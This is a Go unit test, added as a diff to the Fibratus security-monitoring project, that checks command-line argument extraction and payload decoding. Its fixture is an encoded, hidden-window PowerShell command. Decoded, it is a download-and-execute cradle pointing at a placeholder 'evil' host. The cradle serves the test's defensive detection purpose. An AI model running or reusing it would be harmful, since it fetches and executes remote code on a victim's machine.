@@ -0,0 +1,47 @@
+/*
+ * Copyright 2021-2022 by Nedim Sabic Sabic
+ * https://www.fibratus.io
+ * All Rights Reserved.
+ *
+ * Licensed under the Apache License, Version 2.0 (the "License");
+ * you may not use this file except in compliance with the License.
+ * You may obtain a copy of the License at
+ *
+ *  http://www.apache.org/licenses/LICENSE-2.0
+ *
+ * Unless required by applicable law or agreed to in writing, software
+ * distributed under the License is distributed on an "AS IS" BASIS,
+ * WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+ * See the License for the specific language governing permissions and
+ * limitations under the License.
+ */
+
+package functions
+
+import (
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+)
+
+func TestCmdlineArg(t *testing.T) {
+	cmdline := `powershell.exe -NoP -NonI -W Hidden -Enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AZQB2AGkAbAAvAGEAJwApAA==`
+
+	res, ok := CmdlineArg{}.Call([]interface{}{cmdline, "-w"})
+	require.True(t, ok)
+	assert.Equal(t, "Hidden", res)
+
+	res, ok = CmdlineArg{}.Call([]interface{}{cmdline, "-command"})
+	require.True(t, ok)
+	assert.Equal(t, "", res)
+
+	// decode the encoded PowerShell payload
+	payload, ok := CmdlineArg{}.Call([]interface{}{cmdline, "-enc"})
+	require.True(t, ok)
+	data, ok := B64Decode{}.Call([]interface{}{payload})
+	require.True(t, ok)
+	res, ok = UTF16LEDecode{}.Call([]interface{}{data})
+	require.True(t, ok)
+	assert.Equal(t, "IEX (New-Object Net.WebClient).DownloadString('http://evil/a')", res)
+}